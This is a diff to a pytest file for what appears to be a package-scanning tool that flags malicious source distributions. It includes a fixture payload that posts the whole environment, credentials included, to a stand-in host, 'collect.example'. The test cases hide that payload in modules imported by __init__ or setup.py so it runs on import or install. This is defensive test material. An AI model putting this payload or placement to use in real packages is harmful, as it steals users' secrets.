@@ -149,8 +149,9 @@ def test_the_environment_sent_out_under_another_name(source: str) -> None:
     assert held
 
 
-#: Only network use and the environment: held where it runs on import, not in a module
-#: nothing imports.
+#: Only network use and the environment: held where it runs on import as install- or
+#: import-time network use; in a module nothing imports, as the theft it is whoever runs it
+#: (the whole environment sent to an address the code carries: rules 22).
 QUIET_PAYLOAD = """\
 import os, urllib.request
 
@@ -159,39 +160,30 @@ urllib.request.urlopen("https://collect.example/", data=repr(dict(os.environ)).e
 
 
 @pytest.mark.parametrize(
-    ("members", "flagged"),
+    "members",
     [
-        ({"demo/__init__.py": "from . import helper\n", "demo/helper.py": QUIET_PAYLOAD}, True),
+        {"demo/__init__.py": "from . import helper\n", "demo/helper.py": QUIET_PAYLOAD},
         # Two levels: __init__ -> core -> helper.
-        (
-            {
-                "demo/__init__.py": "from .core import *\n",
-                "demo/core.py": "from demo import helper\n",
-                "demo/helper.py": QUIET_PAYLOAD,
-            },
-            True,
-        ),
+        {
+            "demo/__init__.py": "from .core import *\n",
+            "demo/core.py": "from demo import helper\n",
+            "demo/helper.py": QUIET_PAYLOAD,
+        },
         # setup.py imports it at build time.
-        (
-            {
-                "setup.py": "import helper\nfrom setuptools import setup\nsetup(name='demo')\n",
-                "helper.py": QUIET_PAYLOAD,
-                "demo/__init__.py": "",
-            },
-            True,
-        ),
-        # Nothing imports it: a module that runs only when called is not import-time code.
-        ({"demo/__init__.py": "VERSION = 1\n", "demo/helper.py": QUIET_PAYLOAD}, False),
+        {
+            "setup.py": "import helper\nfrom setuptools import setup\nsetup(name='demo')\n",
+            "helper.py": QUIET_PAYLOAD,
+            "demo/__init__.py": "",
+        },
+        # Nothing imports it: not import-time code, but the environment sent all the same.
+        {"demo/__init__.py": "VERSION = 1\n", "demo/helper.py": QUIET_PAYLOAD},
     ],
     ids=["imported by __init__", "two levels down", "imported by setup.py", "not imported"],
 )
-def test_payload_in_a_module_that_install_or_import_imports(
-    members: dict[str, str], flagged: bool
-) -> None:
+def test_payload_in_a_module_that_install_or_import_imports(members: dict[str, str]) -> None:
     rules, held = _rules(sdist({"PKG-INFO": pkg_info(), **members}))
-    assert held is flagged
-    if flagged:
-        assert "import-network" in rules or "install-network" in rules
+    assert held
+    assert "credential-exfil" in rules
 
 
 JUNK_NAMES = """\
